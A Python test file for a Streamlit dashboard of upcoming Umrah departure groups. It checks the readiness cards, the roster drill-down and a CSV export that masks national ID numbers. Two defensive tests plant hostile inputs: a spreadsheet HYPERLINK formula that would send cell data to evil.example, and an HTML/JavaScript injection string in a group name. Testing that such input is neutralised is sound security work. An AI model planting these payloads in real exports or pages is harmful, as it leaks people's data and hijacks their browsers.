"""Keberangkatan: the groups of a window (in the URL), readiness, drill-down and CSV."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from streamlit.testing.v1 import AppTest

from pipeline_core import app as core
from pipeline_core.app import actions, dashboard
from pipeline_core.app.viewer import system_viewer
from pipeline_core.domain import formatting, privacy
from pipeline_core.domain.model import Workspace
from tests.ui.conftest import html_cards, identity, open_page


def group_titles(at: AppTest) -> list[str]:
    return [card["title"] for card in html_cards(at)]


def test_groups_of_the_window_soonest_first(demo13: Workspace) -> None:
    for days in (7, 30):
        at = open_page("departures", window=str(days))
        expected = dashboard.upcoming_departures(system_viewer(demo13), days=days).items
        assert group_titles(at) == [g.name for g in expected]
        n = formatting.number
        for card, g in zip(html_cards(at), expected, strict=True):
            assert formatting.day(g.departure_date) in card["text"]
            assert f"{n(g.jamaah)} jamaah · {n(g.ready)} siap · {n(g.not_ready)} belum siap" in card["text"]
            ready = round(100 * g.ready / g.jamaah) if g.jamaah else 0
            assert 'role="progressbar" aria-label="Kesiapan"' in card["html"]
            assert f'aria-valuenow="{ready}"' in card["html"]
            assert ("Semua jamaah siap berangkat." in card["text"]) == (not g.not_ready)


def test_drill_down_lists_the_not_ready_jamaah_with_links(demo13: Workspace) -> None:
    group = next(
        g for g in dashboard.upcoming_departures(system_viewer(demo13), days=30).items if g.not_ready
    )
    at = open_page("departures", window="30")
    at.toggle(key=f"roster-{group.package_id}").set_value(True).run()
    expected = actions.not_ready_jamaah(system_viewer(demo13), group.package_id, limit=10).items
    links = [link for link in at.page_link if link.value in {line.full_name for line in expected}]
    assert [link.value for link in links] == [line.full_name for line in expected]
    assert at.get("download_button"), "the CSV download"


def test_the_csv_masks_nik(demo13: Workspace) -> None:
    from ui_kit.cards import jamaah_csv

    group = next(
        g for g in dashboard.upcoming_departures(system_viewer(demo13), days=30).items if g.not_ready
    )
    lines = actions.not_ready_jamaah(system_viewer(demo13), group.package_id, limit=100).items
    text = jamaah_csv(lines, demo13)
    assert text.splitlines()[0].startswith("Nama,NIK,Telepon")
    for line in lines:
        nik, _ = identity(demo13, line.id)
        assert nik not in text
        assert privacy.mask_nik(nik) in text


def test_no_departure_in_the_window(demo13: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    empty = dashboard.upcoming_departures(system_viewer(demo13), days=7)
    monkeypatch.setattr(
        core, "upcoming_departures", lambda *a, **k: type(empty)(items=[], total=0, page=1, pages=1)
    )
    at = open_page("departures")
    assert [i.value for i in at.info] == ["Tidak ada keberangkatan dalam 7 hari ke depan."]


def test_demo_2000_smoke(demo2000: Workspace) -> None:
    at = open_page("departures", dataset="demo-2000", window="14", lang="English")
    assert at.title[0].value == "Departures"
    assert len(group_titles(at)) == len(dashboard.upcoming_departures(system_viewer(demo2000), days=14).items)


def test_a_formula_planted_in_a_block_reason_is_text_in_the_csv(fresh_demo13: Workspace) -> None:
    """CSV formula injection: a reason typed as a spreadsheet formula reaches the export as text."""
    from ui_kit.cards import jamaah_csv

    planted = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
    manager = system_viewer(fresh_demo13)
    group = next(g for g in dashboard.upcoming_departures(manager, days=30).items if g.not_ready)
    target = next(
        line
        for line in actions.not_ready_jamaah(manager, group.package_id, limit=100).items
        if line.stage_status is not None and line.stage_status.value != "blocked"
    )
    task = next(
        line for line in dashboard.jamaah_detail(manager, target.id).tasks if line.status != "completed"
    )
    actions.block_task(manager, task.id, task.version, planted)

    lines = actions.not_ready_jamaah(manager, group.package_id, limit=100).items
    rows = list(csv.reader(io.StringIO(jamaah_csv(lines, fresh_demo13))))
    reasons = [row[-1] for row in rows[1:]]
    assert "'" + planted in reasons
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


#: A group name as someone could type it into the departure groups page.
EVIL = '<img src=x onerror="alert(1)"> **Umroh** [link](javascript:alert(2))'


def test_a_group_card_shows_peoples_words_literally(
    demo13: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = dashboard.upcoming_departures(system_viewer(demo13), days=30)
    group = replace(next(g for g in found.items if g.not_ready), name=EVIL, airline=EVIL)
    monkeypatch.setattr(core, "upcoming_departures", lambda *a, **k: replace(found, items=[group], total=1))
    at = open_page("departures", window="30")
    (card,) = html_cards(at)
    assert card["title"] == EVIL
    assert "<img" not in card["html"] and "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in card["html"]
    assert at.toggle(key=f"roster-{group.package_id}"), "the roster's toggle under the card"
